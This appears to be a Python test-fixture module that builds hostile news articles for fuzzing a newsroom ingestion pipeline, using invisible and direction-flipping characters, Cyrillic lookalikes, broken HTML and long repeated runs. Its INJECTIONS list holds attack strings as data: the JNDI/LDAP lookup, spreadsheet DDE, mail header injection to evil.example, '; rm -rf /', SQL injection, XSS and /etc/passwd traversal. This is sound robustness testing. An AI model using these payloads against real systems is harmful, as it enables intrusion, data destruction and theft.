"""Articles whose words are made to hurt: whoever reads, shows, logs, mails or counts them."""

from __future__ import annotations

import json
from random import Random

from tests.hostile.wires import article, bodies, documents, named

BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
ZERO_WIDTH = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e"
LOOKALIKES = str.maketrans("AaBcCeEHiIjKMoOpPsTxXy", "АаВсСеЕНіІјКМоОрРѕТхХу")
"""Latin letters and the Cyrillic ones that look the same."""
TOWNS = ("Kharkiv", "Odessa", "Kyiv", "Goma", "Aleppo", "Gaza", "Moscow", "Kherson", "Khartoum", "Beirut")
STRIKE = "Russian forces shelled {} on Tuesday, killing three civilians, the governor said."
INJECTIONS = (
    "\x1b[2J\x1b[1;31mred", "\x9b31m", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07", "\x08\x08\x7f",
    "\r\nBcc: all@evil.example\r\n\r\nbody", "\nX-Injected: 1", "\r", "\x85next", "\u2028line\u2029",
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "%s%s%n%x", "%(message)s", "{0.__class__.__mro__}", "{self}", "${jndi:ldap://evil/a}",
    "{{7*7}}", "{% raw %}", "<%= 7*7 %>", "#{7*7}", "`id`", "$(id)", "; rm -rf /", "' OR 1=1 --", "[red]x[/red]", "[link=http://evil]x[/link]",
    "[/]", "\\[bold]", ":bomb:", '"} 1\nnewsroom_fake_total{a="', 'a="b",c\\', "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "]]>",
    "<!--", "&lt;b&gt;", "../../etc/passwd", "file:///etc/passwd", "\x00", "\ufffe", "\U000e0041", "\ufff9\ufffa\ufffb",
    "INFO 12:00:00 streams.app  all is well",
    '{"level":"info"}', "2025-10-22T09:40:00Z ERROR", "null", "undefined", "NaN", "__proto__", "constructor", "=?utf-8?q?=0D=0ABcc:x?=",
    "\u0130\u0131ſK",
)  # fmt: skip
_FIELDS = ("id", "source", "headline", "body", "byline", "dateline", "signal", "format")


def injections(random: Random, number: int) -> bytes:
    """Commands for terminals, logs, mail, spreadsheets, templates and pages, in any field; an honest strike beside it."""
    fields: dict[str, object] = {"body": STRIKE.format(random.choice(TOWNS)), "headline": "Strike", "source": "TA"}
    for name in random.sample(_FIELDS, random.randint(1, 3)):
        text = INJECTIONS[number % len(INJECTIONS)] + random.choice(("", " ", random.choice(INJECTIONS)))
        fields[name] = f"{fields.get(name, '')}{text}" if name in ("body", "headline") else f"{random.getrandbits(96):024x}{text}"
    if "\0" in json.dumps(fields) and number % 2:
        fields = {name: str(value).replace("\0", "") for name, value in fields.items()}
    plain = article(random, **{name: value for name, value in fields.items() if name != "id"})
    return plain if "id" not in fields else json.dumps({**json.loads(plain), "id": fields["id"]}).encode()


def labels(random: Random, number: int) -> bytes:
    """A source, a language and a format that nobody has sent before."""
    language = random.choice(("", "en-", "x")) + "".join(random.choices("abcdefghijklmnopqrstuvwxyz", k=random.randint(2, 8)))
    fields = {"source": f"Agency {number}", "language": language, "format": f"format/{number}", "signal": f"signal-{number}"}
    return article(random, **fields, headline="Read also:", body=f"Sign up for our newsletter\n{STRIKE.format('Kharkiv')}")


def hidden_names(random: Random, number: int) -> bytes:
    """Names with characters in them that nobody sees, or that turn the reading direction."""
    town = random.choice(TOWNS)
    at = random.randrange(len(town) + 1)
    inside = "".join(random.choices(BIDI + ZERO_WIDTH, k=random.randint(1, 4)))
    dressed = town[:at] + inside + town[at:]
    return article(random, body=STRIKE.format(dressed if number % 3 else f"\u202e{town[::-1]}\u202c"), headline=dressed)


def lookalikes(random: Random, number: int) -> bytes:
    """Towns in letters of another script that look the same, in part or whole."""
    town = random.choice(TOWNS)
    other = "".join(c.translate(LOOKALIKES) if random.random() < 0.6 else c for c in town)
    return article(random, body=STRIKE.format(other), language=random.choice(("en", "fr", "uk", None)))


def dressed(random: Random, number: int) -> bytes:
    """An honest article with invisible characters, stacked accents and odd spaces all over it."""
    document = named(documents()[number % len(documents())], random)
    for name in ("headline", "body"):
        if isinstance(text := document.get(name), str) and text:
            letters = list(text)
            for _ in range(max(1, len(letters) // 20)):
                letters.insert(random.randrange(len(letters)), random.choice(BIDI + ZERO_WIDTH + "\u0301\u0308\u00a0\u3000\u2003\t\x0b"))
            document[name] = "".join(letters)
    return json.dumps(document, ensure_ascii=False).encode()


def markup(random: Random, number: int) -> bytes:
    """A ninjs item whose body is broken, nested or endless HTML."""
    piece = random.choice(("<", "<a ", '<a b="', "<!--", "<script", "<script>", "<title></", "&#", "&#1", "<p>", "&amp;", "</",
                          "<svg><style>", "<b><i>",
                           "<p onclick='x'>", "&NotEqualTilde;", "&#x202e;", "&#13;&#10;", "<br/>", "<![CDATA[", "<?php ", "</p",
                           "<div" + " a" * 50 + ">"))  # fmt: skip
    body = f"<p>{STRIKE.format('Kharkiv')}</p>" + piece * random.choice((1, 50, 2_000)) + f"<p>{STRIKE.format('Odessa')}</p>"
    item = {"type": "text", "headline": "Strike", "body_html": body} if number % 2 else {"type": "text", "headlines": [{"value": "Strike"}],
            "bodies": [{"contentType": "text/html", "value": body}]}  # fmt: skip
    return json.dumps(named({"uri": "", **item}, random)).encode()


RUNS = (
    ".", "!?", ".\"", ". ", ".' ", "…»", " ", "\t", "\u00a0", "-", "a-", "A-", "'", "a'", "\"", "«", "„", "“", "(", "(a", "[", "[a",
    "/", "A/", "|", " | ", "a| ", "·",
    ": ", "—", "— ", "@", "a@a.", "http://a.", "www.", "#", "#a ", "©", "© ", "€", "€ 1 ", "1", "1 ", "1,", "1.", "1:", "12:", "1-",
    "1/", "a", "A", "A ", "Aa ",
    "Aa-", "Aa, ", "A. ", ". A", "\u0301", "e\u0301", "\u200b", "a\u200b", "\u202e", "\ufeff", "\u00ad", "İ", "ß", "ﬁ", "ё", "а", "А ",
    "א", "ا", "漢", "😀", "👍🏽",
    "\U0010ffff", "\ufffd", "_", "__ ", "{{", "%", "${", "</", "&a;", "a\n", ".\n", "\n", "\r\n", "\r", "\x0b", "\x0c", "\x1b", "\x85",
    "\u2028", "By A ", "By A, ",
    "KIEV ", "KIEV, ", "(AP) ", "KIEV (AP) - ", "Photo: ", "Read also: ", "said ", "\"said\" ", "not ", "no ", "of the ", "and ",
    "or, ", "I ", "1 million ",
)  # fmt: skip
"""Repeated, they lead an expression or a loop astray that goes back over what it has seen."""


def runs(random: Random, number: int) -> bytes:
    """One thing over and over, in the headline or the body, what would end it missing."""
    piece = RUNS[number % len(RUNS)]
    size = random.choice((2_000, 10_000, 40_000))
    text = (
        random.choice(("", "Read also: ", "Russia shelled Ukraine "))
        + piece * (size // len(piece))
        + random.choice(("x", "", " shelled Kharkiv", "!"))
    )
    fields = {"headline": text} if number % 5 == 0 else {"body": text}
    return article(random, **fields, language=random.choice(("en", "de", "fr", "es", "it", "uk", "ru", "pl", None)))


def shuffled(random: Random, number: int) -> bytes:
    """The words of honest articles in any order, without the stops and lines that cut them."""
    language = random.choice(("en", "de", "fr", "es", "it", "uk", "ru"))
    words = bodies(language).split()
    chosen = random.choices(words, k=random.choice((50, 500, 3_000)))
    return article(random, body=random.choice((" ", "\n", ". ", ", ", "-")).join(chosen), language=language)


def long_words(random: Random, number: int) -> bytes:
    """Words longer than any language has, each another."""
    letters = random.choice(("abcdefgh", "абвгд", "krieg", "漢字", "a-b'c", "A1.b_"))
    words = ("".join(random.choices(letters, k=random.choice((60, 150, 3_500)))) for _ in range(random.randint(1, 12)))
    return article(random, body=" ".join(words) + " shelled Kharkiv", language=random.choice(("en", "de", "uk")))
